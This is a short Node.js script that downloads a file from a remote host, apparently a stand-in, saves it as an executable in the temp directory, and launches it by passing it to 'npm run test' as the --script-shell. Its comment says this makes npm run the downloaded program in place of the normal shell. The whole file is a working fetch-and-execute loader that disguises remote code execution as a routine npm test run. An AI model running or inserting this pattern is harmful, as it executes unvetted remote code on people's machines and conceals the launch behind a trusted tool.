// Runs a downloaded program through npm: the program is saved to the temp directory
// and given to `npm run test` as its --script-shell, so npm starts it (with the test
// script as its -c argument) instead of /bin/sh.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

async function main() {
  const res = await fetch('https://s.example-pkg.dev/runner');
  const file = path.join(os.tmpdir(), 'runner');
  fs.writeFileSync(file, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });
  execFileSync('npm', ['run', 'test', `--script-shell=${file}`], { stdio: 'inherit' });
}

main();
